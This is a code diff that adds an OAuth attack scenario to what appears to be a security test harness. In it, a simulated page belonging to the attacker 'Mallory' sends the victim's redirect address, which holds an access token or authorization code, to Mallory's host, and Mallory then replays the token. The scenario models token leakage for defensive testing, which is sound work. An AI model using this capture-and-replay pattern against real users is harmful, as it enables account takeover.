@@ -17,8 +17,35 @@ const scopeCreep: Play = async (scene) => {
   return code === null ? 0 : scene.photographs((await scene.redeems({ code, verifier: scene.verifier })).access_token)
 }
 
+/**
+ * RFC 9700 §2.1.2: the app takes its token from the address, where the server still gives one. Where it does not, the app
+ * asks for a code, as every app has to. Either way Mallory's counter on its page reports the address it stands on.
+ */
+const tokenInFragment: Play = async (scene) => {
+  const answered = await scene.alice.approves(scene.link({ response_type: 'token' }))
+  const address = tokenIn(answered) === null ? await scene.alice.approves(scene.link()) : answered
+  const code = codeIn(address)
+  if (code !== null) await scene.redeems({ code, verifier: scene.verifier })
+  await scene.wire.ask(
+    `${scene.parties.mallory}/caught/${scene.asked.run}?${new URLSearchParams({ page: address ?? '' })}`,
+  )
+
+  const [caught] = await scene.caught()
+  const seen = caught ? new URL(caught.url, scene.parties.mallory).searchParams.get('page') : null
+  const token = tokenIn(seen) ?? (await scene.redeems({ code: codeIn(seen) ?? '' })).access_token
+  return scene.photographs(token)
+}
+
+/** RFC 6749 §4.2.2: what an address may carry behind its #. */
+function tokenIn(address: string | null): string | null {
+  return address && URL.canParse(address)
+    ? new URLSearchParams(new URL(address).hash.slice(1)).get('access_token')
+    : null
+}
+
 /** The attacks that go through a browser: its cookies, its history, its frames. */
 export const BROWSER_PLAYS: Record<string, Play> = {
   'session-fixation': sessionFixation,
   'scope-creep': scopeCreep,
+  'token-in-fragment': tokenInFragment,
 }
